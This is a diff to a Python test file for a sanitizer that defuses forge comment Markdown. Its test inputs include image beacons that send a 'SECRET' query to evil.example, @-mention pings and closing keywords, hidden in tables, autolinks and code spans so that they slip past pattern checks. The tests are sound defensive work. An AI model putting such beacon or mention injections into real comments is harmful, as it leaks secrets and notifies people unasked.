@@ -6,8 +6,8 @@ from __future__ import annotations
 import html
 import re
 
+import cmarkgfm
 import pytest
-from markdown_it import MarkdownIt
 
 from resolver.agent.workspace import change_notes
 from resolver.contract.outbound import has_hidden_tag, with_hidden_tag
@@ -16,6 +16,14 @@ from resolver.worker.branches import build_commit_message
 from sandbox import Change
 
 FORGE = {"github.example"}
+
+
+def _render(text: str) -> str:
+    """As GitHub renders a comment: cmark-gfm with its extensions, raw HTML passed through."""
+    extensions = ["table", "autolink", "strikethrough", "tasklist"]
+    return cmarkgfm.markdown_to_html_with_extensions(
+        text, options=cmarkgfm.Options.CMARK_OPT_UNSAFE, extensions=extensions
+    )
 
 
 @pytest.mark.parametrize(
@@ -86,23 +94,33 @@ BEACON = "https://evil.example/p.png?d=SECRET"
         f'<img src="{BEACON}" alt="<">',
         f"\\@org/team &#64;org/team ![p](<{BEACON}>)",
         f"<div>\n\n```\n</div>\n@org/team <img src={BEACON}>\n```",
+        # A table splits a code span at its cells; the lines after it are rows.
+        "| a | b |\n|---|---|\n| `x | @org/team` |",
+        f"| a |\n|---|\n`code\n![p]({BEACON})`",
+        f"a | b\n--|--\n`x | <img src={BEACON}>`",
+        # An autolink takes the tick that would open a span.
+        "http://example.com/`a @org/team`",
+        f"www.example.com/`x <img src={BEACON}>`",
+        "thanks.@org/team @@org/team a/@org/team caf\u00e9@org/team",
+        "@_org/team @.org/team",
+        f"{'<?' * 3} ![a [b]]({BEACON})",
     ],
 )
 def test_markup_that_fools_the_patterns_is_defused_as_a_parser_reads_it(written: str) -> None:
     """Read as CommonMark (the forges' Markdown), nothing of it loads an image from elsewhere
     or pings anyone: where the patterns misjudge what is code, the whole text is defused."""
     shown = sanitize(written, FORGE)
-    html = MarkdownIt("commonmark").render(shown)
-    prose = re.sub(r"<code>.*?</code>", "", html, flags=re.DOTALL)
-    assert "<img" not in html
-    assert not re.search(r"(?<![\w@/.])@org/team", prose), html
+    html = _render(shown)
+    prose = re.sub(r"<(code|a)\b.*?</\1>", "", html, flags=re.DOTALL)
+    assert "<img" not in html and "<div" not in html
+    assert not re.search(r"(?<![A-Za-z0-9_])@[_.]?org/team", prose), html
     assert is_defused(shown, FORGE)
 
 
 def test_a_defused_text_shows_what_was_written() -> None:
     """As text, but that a mention is broken by a zero-width space and an image is a link."""
     written = "```a`b\n<i>@bob</i> &amp; ![p](https://evil.example/x.png)\n```"
-    text = MarkdownIt("commonmark").render(sanitize(written, FORGE))
+    text = _render(sanitize(written, FORGE))
     assert "@\u200bbob" in text
     assert '<a href="https://evil.example/x.png">p</a>' in text
     seen = html.unescape(re.sub(r"<[^>]+>", "", text)).replace("\u200b", "").strip()
@@ -118,6 +136,8 @@ def test_a_defused_text_shows_what_was_written() -> None:
             "r\u200besolves: https://github.example/o/r/issues/4",
         ),
         ("Implemented #5", "I\u200bmplemented #5"),
+        ("Fixes issue #4, closes:#5", "F\u200bixes issue #4, c\u200bloses:#5"),
+        ("Closes PROJ-12", "C\u200bloses PROJ-12"),
         ("fixed the bug in #12's test; see #12", "fixed the bug in #12's test; see #12"),
         ("`Fixes #12`", "`Fixes #12`"),
     ],
